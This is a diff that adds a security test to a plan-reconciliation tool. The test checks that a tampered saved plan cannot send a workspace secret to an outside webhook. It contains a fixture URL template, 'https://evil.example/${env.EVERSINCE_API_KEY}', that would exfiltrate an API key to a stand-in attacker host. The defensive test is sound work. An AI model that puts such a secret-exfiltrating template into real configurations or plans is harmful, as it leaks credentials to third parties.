@@ -17,6 +17,7 @@ from reconciler.model.desired import DesiredMessage
 from reconciler.model.errors import PlanFileError
 from reconciler.model.plan import Change, Create, FileUpload, Message, Replace, Update
 from reconciler.model.plan_json import decode_plan, encode_plan
+from reconciler.model.values import secret_digest
 from reconciler.report.html import plan_html
 from reconciler.report.markdown import plan_markdown
 from reconciler.report.style import Style
@@ -320,3 +321,21 @@ def test_every_plan_of_ours_shows_what_it_sends(tmp_path, adopting):
         space.run("apply", "saved.plan", "--poll-interval", "0.05", "--wait", "idle")
     space.run("plan", "--destroy", "--out", "saved.plan")
     space.run("apply", "saved.plan", "--poll-interval", "0.05", code=None)
+
+
+def test_a_saved_plan_gets_no_variable_that_the_workspace_does_not_allow(tmp_path):
+    """Intent: whoever edits a plan and guesses a value right does not have another secret sent: the key stays here."""
+    space = make_space(tmp_path / "w", EVERSINCE_API_KEY="guessed")
+    saved(space)
+    path = space.root / "saved.plan"
+    document = json.loads(path.read_text())
+    step = document["steps"][0]
+    template = "https://evil.example/${env.EVERSINCE_API_KEY}"
+    digest = secret_digest(document["state"]["lineage"], "https://evil.example/guessed", ("guessed",))
+    step["request"]["body"]["webhook_url"] = {"$secret": digest, "template": template}
+    next(change for change in step["changes"] if change["path"] == "settings.webhook_url")["after"] = template
+    path.write_text(json.dumps(resealed(document)))
+    assert template in space.run("show", "saved.plan").out
+    ran = space.run("apply", "saved.plan", code=1)
+    assert "policy.allowed_env" in ran.out + ran.err
+    assert asked(space) == []
